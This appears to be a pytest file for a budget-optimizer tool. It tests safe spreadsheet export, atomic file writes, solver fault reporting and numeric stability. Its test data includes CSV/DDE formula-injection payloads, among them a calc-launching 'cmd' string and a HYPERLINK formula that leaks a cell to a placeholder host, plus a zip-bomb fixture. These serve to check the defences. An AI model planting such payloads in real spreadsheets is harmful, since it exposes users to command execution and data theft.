"""Reliability as a user meets it: exports that cannot carry a formula in, files that are written
whole or not at all and never over the input or a read-only file, solver faults reported in plain
words with the documented exit status, and money in any unit giving the same choices."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import highspy
import numpy as np
import pytest
from openpyxl import load_workbook

from optimizer import cli
from optimizer.errors import ExportError, SolverFailure
from optimizer.generator import generate_case
from optimizer.io.case_writer import write_case
from optimizer.io.export import export_result
from optimizer.io.files import ReadOnlyFile, write_atomically
from optimizer.io.scenarios import Scenario, export_scenarios
from optimizer.io.workbook import read_case
from optimizer.model.case import Case
from optimizer.model.targets import setting
from optimizer.planner import Planner
from optimizer.solve.session import Session
from tests import reference
from tests.builders import make_workbook
from tests.conftest import ROOT
from tests.corpus.make_corpus import CORPUS, Sheet, write_xlsx

# --------------------------------------------------------------------------- safe export

# Text a subsidiary might send that Excel would run if it were written as a formula (CSV/DDE injection).
FORMULA_LIKE = ["=SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1"]
PROJECT_HEADER = ["id", "name", "entity", "sector", "capex_2027", "npv", "exclusive_group"]
PROJECT_ROWS = [
    ["P1", FORMULA_LIKE[0], "=A1", "@risk", 10, 5, None],
    ["P2", FORMULA_LIKE[1], "华瑞新能源", "-sector", 8, 4, "=G"],
    ["P3", FORMULA_LIKE[2], "+entity", "能源", 6, 3, "=G"],
    ["-P4", FORMULA_LIKE[3], "华瑞电力", "=sector", 7, 2, None],
    ["@P5", FORMULA_LIKE[4], "华瑞电力", "能源", 5, -1, None],
    ["=P6", FORMULA_LIKE[5], "华瑞电力", "能源", 50, 9, None],
]
TEXTS = {str(v) for row in PROJECT_ROWS for v in row if isinstance(v, str)}
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_like_case(tmp_path: Path) -> Path:
    """A case whose ids, names, entities, sectors and groups look like formulas, stored as text (as Excel
    stores what a user types after an apostrophe)."""
    path = tmp_path / "formula_like.xlsx"
    write_xlsx(path, [Sheet("Projects", [PROJECT_HEADER, *PROJECT_ROWS]),
                      Sheet("Settings", [["key", "value"], ["total_budget", 30]])])
    return path


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def assert_text_only(path: Path, expected: set[str]) -> None:
    """No sheet of the file holds a formula, and every expected text is in some cell, verbatim, as text."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
    wb = load_workbook(path)  # formulas as formulas, not their values
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if cell.data_type == "s":
                    texts.add(cell.value)
    assert expected <= texts, expected - texts


def test_formula_like_text_is_exported_as_text_cell_by_cell(tmp_path):
    case_path = formula_like_case(tmp_path)
    before = sha(case_path)
    out = tmp_path / "result.xlsx"
    assert cli.main(["solve", str(case_path), "-o", str(out)]) == 0
    assert_text_only(out, TEXTS)
    assert sha(case_path) == before
    chosen = {row[0].value for row in load_workbook(out)["Selected"].iter_rows(min_row=2)}
    assert "=P6" not in chosen and chosen  # 50 does not fit the budget of 30: the answer is a real one


def test_formula_like_text_stays_text_in_a_saved_case_and_in_scenarios(tmp_path):
    case = read_case(formula_like_case(tmp_path))
    assert {p.name for p in case.projects} == set(FORMULA_LIKE)
    saved = tmp_path / "saved.xlsx"
    write_case(case, saved)
    assert_text_only(saved, TEXTS)
    assert [(p.id, p.name, p.entity) for p in read_case(saved).projects] == \
        [(p.id, p.name, p.entity) for p in case.projects]
    result = cli.solve_case(case)
    scenarios = tmp_path / "scenarios.xlsx"
    export_scenarios([Scenario("=cmd|' /C calc'!A0", case, result), Scenario("@second", case, result)], scenarios)
    assert_text_only(scenarios, {"=cmd|' /C calc'!A0", FORMULA_LIKE[0]})


def test_export_never_writes_the_input(tmp_path):
    case_path = formula_like_case(tmp_path)
    before = sha(case_path)
    result = cli.solve_case(read_case(case_path))
    link = tmp_path / "link.xlsx"
    link.symlink_to(case_path)
    hard = tmp_path / "hard.xlsx"
    os.link(case_path, hard)
    for target in (case_path, link, hard, tmp_path / "." / case_path.name):
        with pytest.raises(ExportError, match="Refusing to write over the input workbook"):
            export_result(result, target)
    assert cli.main(["solve", str(case_path), "-o", str(case_path)]) == 1
    assert sha(case_path) == before


def test_read_only_target_is_refused_and_kept(tmp_path, capsys):
    case_path = formula_like_case(tmp_path)
    target = tmp_path / "approved.xlsx"
    target.write_bytes(b"the approved plan")
    target.chmod(0o444)
    result = cli.solve_case(read_case(case_path))
    with pytest.raises(ExportError, match="read-only"):
        export_result(result, target)
    assert cli.main(["solve", str(case_path), "-o", str(target)]) == 1
    assert "read-only" in capsys.readouterr().err
    assert target.read_bytes() == b"the approved plan"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["approved.xlsx", "formula_like.xlsx"]


def test_a_write_that_fails_half_way_leaves_the_old_file_whole(tmp_path, monkeypatch):
    case_path = formula_like_case(tmp_path)
    target = tmp_path / "result.xlsx"
    target.write_bytes(b"the previous result")
    result = cli.solve_case(read_case(case_path))

    real_write = os.write

    def disk_full(fd, data):  # the workbook is made in memory; the disk fills up half-way through writing it
        if fd > 2:
            real_write(fd, bytes(data[:100]))
            raise OSError(28, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", disk_full)
    with pytest.raises(ExportError, match="No space left on device"):
        export_result(result, target)
    assert target.read_bytes() == b"the previous result"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["formula_like.xlsx", "result.xlsx"]


def test_write_atomically_refuses_a_read_only_file_and_replaces_a_writable_one(tmp_path):
    target = tmp_path / "a.json"
    write_atomically(target, b"one")
    write_atomically(target, b"two")
    assert target.read_bytes() == b"two"
    target.chmod(0o444)
    with pytest.raises(ReadOnlyFile):
        write_atomically(target, b"three")
    assert target.read_bytes() == b"two"
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]



# --------------------------------------------------------------------------- solver faults
# A fault is injected where HiGHS hands its answer over (highspy.Highs), so everything after it
# (cvxpy's unpacking, the engine's checks, the CLI) runs as it would for a real fault.

FAULT_PROJECTS = [
    {"id": "A", "name": "Wind farm", "capex_2027": 6, "capex_2028": 4, "npv": 5},
    {"id": "B", "name": "Grid link", "capex_2027": 5, "capex_2028": 1, "npv": 4, "requires": "A"},
    {"id": "C", "name": "Smelter", "capex_2027": 8, "npv": 3},
    {"id": "D", "name": "Storage", "capex_2027": 3, "capex_2028": 3, "npv": 2.5, "exclusive_group": "S"},
    {"id": "E", "name": "Storage bis", "capex_2027": 4, "npv": 2, "exclusive_group": "S"},
]


@pytest.fixture
def fault_case(tmp_path) -> Path:
    return make_workbook(tmp_path / "case.xlsx", FAULT_PROJECTS, {"total_budget": 20, "budget_2027": 16})


def solve_cli(case_path: Path, capsys, *extra: str) -> tuple[int, str, str, Path, Path]:
    out, answer = case_path.parent / "result.xlsx", case_path.parent / "result.json"
    code = cli.main(["solve", str(case_path), "-o", str(out), "--json", str(answer), *extra])
    printed = capsys.readouterr()
    assert "Traceback" not in printed.out + printed.err
    return code, printed.out, printed.err, out, answer


def patch_solution(monkeypatch, change) -> None:
    """Make HiGHS hand over `change(column values)` instead of its answer."""
    real = highspy.Highs.getSolution

    def altered(self):
        solution = real(self)
        solution.col_value = list(change(np.array(solution.col_value)))
        return solution

    monkeypatch.setattr(highspy.Highs, "getSolution", altered)


@pytest.mark.parametrize("failure", [RuntimeError("HiGHS crashed in presolve"), MemoryError(),
                                     KeyError("col_value"), OSError(5, "Input/output error")])
def test_a_solver_that_raises_is_reported_in_words_with_exit_1(fault_case, capsys, monkeypatch, failure):
    def crash(self):
        raise failure

    monkeypatch.setattr(highspy.Highs, "run", crash)
    code, out, err, result, answer = solve_cli(fault_case, capsys)
    assert code == 1
    assert err.startswith("error: ") and "the solver HiGHS failed: " in err
    assert not result.exists() and not answer.exists()


def test_a_solver_that_hangs_past_its_time_limit_is_given_up_with_exit_1(fault_case, capsys, monkeypatch):
    from optimizer.solve import highs

    release = threading.Event()

    def hang(self):
        release.wait(30)  # a run that never returns (released at the end of the test)

    monkeypatch.setattr(highspy.Highs, "run", hang)
    monkeypatch.setattr(highs, "WATCHDOG_GRACE", 0.5)
    started = time.perf_counter()
    try:
        code, out, err, result, answer = solve_cli(fault_case, capsys, "--time-limit", "0.2")
    finally:
        release.set()
    assert time.perf_counter() - started < 10
    assert code == 1
    assert "the solver HiGHS failed: it did not stop at its time limit of 0.2 s" in err
    assert not result.exists() and not answer.exists()
    monkeypatch.undo()
    code, *_ = solve_cli(fault_case, capsys)  # the next solve in the same process is not held up
    assert code == 0


@pytest.mark.parametrize("nonsense, words", [
    (lambda x: np.ones_like(x), "breaks the model"),                      # every option taken: budgets broken
    (lambda x: np.full_like(x, np.nan), "not numbers (NaN or infinity)"),
    (lambda x: np.full_like(x, 0.5), "half chosen"),
    (lambda x: x * 3, "outside 0 to 1"),
    (lambda x: x[:-1], "failed"),  # cvxpy itself cannot take a short answer
])
def test_a_solver_that_returns_nonsense_is_a_fault_not_a_portfolio(fault_case, capsys, monkeypatch, nonsense, words):
    patch_solution(monkeypatch, nonsense)
    code, out, err, result, answer = solve_cli(fault_case, capsys)
    assert code == 1, out
    assert "the solver HiGHS" in err and words in err, err
    assert not result.exists()


def test_a_solver_that_misreports_its_objective_and_bound_is_a_fault(fault_case, capsys, monkeypatch):
    real = highspy.Highs.getInfo

    def inflated(self):
        info = real(self)
        info.objective_function_value -= 1000.0  # HiGHS minimises -NPV: this claims 1,000 more NPV
        return info

    monkeypatch.setattr(highspy.Highs, "getInfo", inflated)
    code, out, err, result, _ = solve_cli(fault_case, capsys)
    assert code == 1
    assert "reported a best possible value" in err and "below the portfolio it found" in err


def test_a_solver_out_of_time_without_a_portfolio_exits_4(fault_case, capsys, monkeypatch):
    monkeypatch.setattr(highspy.Highs, "getModelStatus", lambda self: highspy.HighsModelStatus.kTimeLimit)
    patch_solution(monkeypatch, lambda x: x)
    real_info = highspy.Highs.getInfo

    def no_point(self):
        info = real_info(self)
        info.primal_solution_status = 0  # no feasible point in hand
        return info

    monkeypatch.setattr(highspy.Highs, "getInfo", no_point)
    code, out, err, result, answer = solve_cli(fault_case, capsys)
    assert code == 4
    assert "no portfolio was found within the time limit" in out
    assert json.loads(answer.read_text(encoding="utf-8"))["status"] == "no_solution"
    assert not result.exists()


def test_a_solver_stopped_by_the_time_limit_with_a_portfolio_exits_0_and_says_so(fault_case, capsys, monkeypatch):
    monkeypatch.setattr(highspy.Highs, "getModelStatus", lambda self: highspy.HighsModelStatus.kTimeLimit)
    code, out, err, result, answer = solve_cli(fault_case, capsys)
    assert code == 0
    assert "best found when the time limit ran out" in out
    data = json.loads(answer.read_text(encoding="utf-8"))
    assert data["status"] == "feasible" and data["gap"] is not None
    assert reference.broken_rules(FAULT_PROJECTS, reference.portfolio_from_json(data), None,
                                  {"total_budget": 20, "budget_2027": 16}) == []
    assert result.exists()


def test_cvxpys_inaccurate_warning_is_silenced_for_the_whole_process(fault_case):
    """When HiGHS stops at its time limit, cvxpy warns "Solution may be inaccurate"; the answer's status says so
    in words, so the engine silences that one warning for the process (the app solves on threads of its own,
    where a filter around each run would not hold), even where warnings are errors."""
    script = ("import sys, highspy\n"
              "from optimizer.io.workbook import read_case\n"
              "from optimizer.planner import Planner\n"
              "highspy.Highs.getModelStatus = lambda self: highspy.HighsModelStatus.kTimeLimit\n"
              "print(Planner().solve(read_case(sys.argv[1])).solution.status)\n")
    done = subprocess.run([sys.executable, "-W", "error::UserWarning", "-c", script, str(fault_case)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "feasible"


def test_after_a_solver_fault_the_same_session_solves_again(fault_case, monkeypatch):
    case = read_case(fault_case)
    session = Session()
    with monkeypatch.context() as patched:
        patch_solution(patched, lambda x: np.ones_like(x))
        with pytest.raises(SolverFailure, match="breaks the model"):
            Planner(session).solve(case)
    result = Planner(session).solve(case)
    expected, _ = reference.enumerate_optimum(FAULT_PROJECTS, {"total_budget": 20, "budget_2027": 16})
    assert result.solution.status == "optimal"
    assert result.solution.objective_value == pytest.approx(expected, abs=1e-6)


# --------------------------------------------------------------------------- numerics

MONEY_FIELDS = ("npv", "npv_low", "npv_high", "revenue", "profit", "operating_cash_flow", "rd_spend", "value_added")
BASELINE_MONEY = ("revenue", "total_profit", "net_profit", "total_assets", "total_liabilities", "equity",
                  "operating_cash_flow", "rd_spend", "labour_output")


def in_unit(case: Case, factor: float) -> Case:
    """The same case with money written in a unit `factor` times smaller (yuan instead of 亿元 is 1e8)."""
    def times(value):
        return None if value is None else value * factor

    projects = tuple(replace(p, capex={y: v * factor for y, v in p.capex.items()},
                             **{f: times(getattr(p, f)) for f in MONEY_FIELDS}) for p in case.projects)
    enterprise = replace(case.enterprise, **{f: times(getattr(case.enterprise, f)) for f in BASELINE_MONEY})
    limits = {key: value * factor if setting(key).kind in ("money", "productivity") else value
              for key, value in case.settings.limits.items()}
    return replace(case, projects=projects, enterprise=enterprise, settings=replace(case.settings, limits=limits))


def test_money_in_any_unit_from_1_to_1e6_gives_the_same_choices():
    """A realistic 40-project case with every kind of rule and limit, binding ones among them."""
    case = generate_case(40, seed=1)
    answers = {}
    for power in range(7):
        result = Planner().solve(in_unit(case, 10.0 ** power), gap=0.0)
        assert result.solution.status == "optimal", (power, result.diagnosis)
        answers[power] = (sorted((x.id, x.start_year, round(x.share, 6)) for x in result.selected),
                          result.solution.objective_value / 10.0 ** power)
    chosen, value = answers[0]
    assert len(chosen) >= 5
    for power, (chosen_here, value_here) in answers.items():
        assert chosen_here == chosen, power
        assert value_here == pytest.approx(value, rel=1e-9), power


SMALL = [
    {"id": "A", "name": "Wind farm", "capex_2027": 6, "capex_2028": 4, "npv": 5, "profit": 1.2},
    {"id": "B", "name": "Grid link", "capex_2027": 5, "capex_2028": 1, "npv": 4, "profit": 0.8},
    {"id": "C", "name": "Smelter", "capex_2027": 8, "npv": -1, "profit": 0.1},
]


def solve_small(tmp_path: Path, rows: list[dict], settings: dict, capsys) -> tuple[int, dict, str]:
    path = make_workbook(tmp_path / "case.xlsx", rows, settings)
    answer = tmp_path / "result.json"
    code = cli.main(["solve", str(path), "--json", str(answer), "--gap", "0"])
    out = capsys.readouterr().out
    return code, json.loads(answer.read_text(encoding="utf-8")), out


@pytest.mark.parametrize("budget", [0, 1e-9, 1e-3])
def test_a_tiny_budget_funds_nothing_and_says_the_budget_binds(tmp_path, capsys, budget):
    code, result, out = solve_small(tmp_path, SMALL, {"total_budget": budget}, capsys)
    assert code == 0 and result["status"] == "optimal"
    assert result["selected"] == [] and result["objective_value"] == 0
    assert "Selected 0 of 3 projects" in out
    reasons = {x["id"]: x["code"] for x in result["excluded"]}
    assert reasons == {"A": "does_not_fit", "B": "does_not_fit", "C": "no_value"}
    reason_a = next(x["reason"] for x in result["excluded"] if x["id"] == "A")
    assert reason_a == f"does not fit: even alone it needs 10.00 of total_budget, whose limit is {budget:,.2f}"


@pytest.mark.parametrize("budget", [1e6, 1e12, 1e15])
def test_a_huge_budget_funds_every_project_that_pays(tmp_path, capsys, budget):
    code, result, _ = solve_small(tmp_path, SMALL, {"total_budget": budget, "budget_2027": budget}, capsys)
    assert code == 0
    assert {x["id"] for x in result["selected"]} == {"A", "B"}
    assert result["objective_value"] == pytest.approx(9)


def test_a_budget_beyond_1e15_is_an_input_error(tmp_path, capsys):
    path = make_workbook(tmp_path / "case.xlsx", SMALL, {"total_budget": 1e18})
    assert cli.main(["solve", str(path)]) == 2
    assert "Settings!B2: total_budget: 1e+18 is too large" in capsys.readouterr().out


def test_every_project_mandatory(tmp_path, capsys):
    rows = [{**p, "mandatory": "yes"} for p in SMALL]
    code, result, _ = solve_small(tmp_path, rows, {"total_budget": 30}, capsys)
    assert code == 0
    assert {x["id"] for x in result["selected"]} == {"A", "B", "C"}  # C loses money but is mandatory
    assert result["objective_value"] == pytest.approx(8)
    code, result, out = solve_small(tmp_path, rows, {"total_budget": 20}, capsys)  # 24 is needed
    assert code == 3 and result["status"] == "infeasible"
    assert "total_budget" in out and result["diagnosis"]


def test_no_candidates_is_an_empty_plan_and_unmet_targets_say_why(tmp_path, capsys):
    empty = tmp_path / "empty.xlsx"
    write_xlsx(empty, [Sheet("Projects", [["id", "name", "capex_2027", "npv"]]),
                       Sheet("Settings", [["key", "value"], ["total_budget", 10]])])
    answer = tmp_path / "empty.json"
    assert cli.main(["solve", str(empty), "--json", str(answer)]) == 0
    out = capsys.readouterr().out
    assert "no projects: the sheet has a header row but no project rows" in out
    assert "Selected 0 of 0 projects" in out
    assert json.loads(answer.read_text(encoding="utf-8"))["selected"] == []
    write_xlsx(empty, [Sheet("Projects", [["id", "name", "capex_2027", "npv"]]),
                       Sheet("Settings", [["key", "value"], ["min_profit_growth", 0.05]]),
                       Sheet("Enterprise", [["key", "value"], ["total_profit", 100]])])
    assert cli.main(["solve", str(empty), "--json", str(answer)]) == 3
    out = capsys.readouterr().out
    assert "there are no candidate projects" in out


@pytest.mark.parametrize("row, settings, chosen, code", [
    (SMALL[0], {"total_budget": 10}, {"A"}, 0),              # pays and fits
    (SMALL[0], {"total_budget": 9.99}, set(), 0),            # pays but does not fit
    (SMALL[2], {}, set(), 0),                                # does not pay
    ({**SMALL[2], "mandatory": "yes"}, {}, {"C"}, 0),        # does not pay but is mandatory
    ({**SMALL[0], "mandatory": "yes"}, {"total_budget": 9}, None, 3),  # mandatory and does not fit
])
def test_one_candidate(tmp_path, capsys, row, settings, chosen, code):
    found, result, _ = solve_small(tmp_path, [row], settings, capsys)
    assert found == code
    if chosen is not None:
        assert {x["id"] for x in result["selected"]} == chosen


def test_an_input_swapped_for_a_bomb_after_reading_is_not_unpacked_by_the_export(tmp_path):
    case_path = formula_like_case(tmp_path)
    result = cli.solve_case(read_case(case_path))
    build_bomb = next(build for entry, build in CORPUS if entry.name == "zip_bomb.xlsx")
    build_bomb(case_path)  # the file changes between reading and exporting
    export_result(result, tmp_path / "result.xlsx")  # from the bytes read with the case: the bomb is never read
    assert read_case(tmp_path / "result.xlsx").projects == result.case.projects
    # A case without those bytes (an autosave restored, naming its workbook) reads the file again, within bounds.
    elsewhere = replace(result, case=replace(result.case, origin=replace(result.case.origin, path="autosave.xlsx")))
    with pytest.raises(ExportError, match="zip bomb"):
        export_result(elsewhere, tmp_path / "again.xlsx")
    assert not (tmp_path / "again.xlsx").exists()
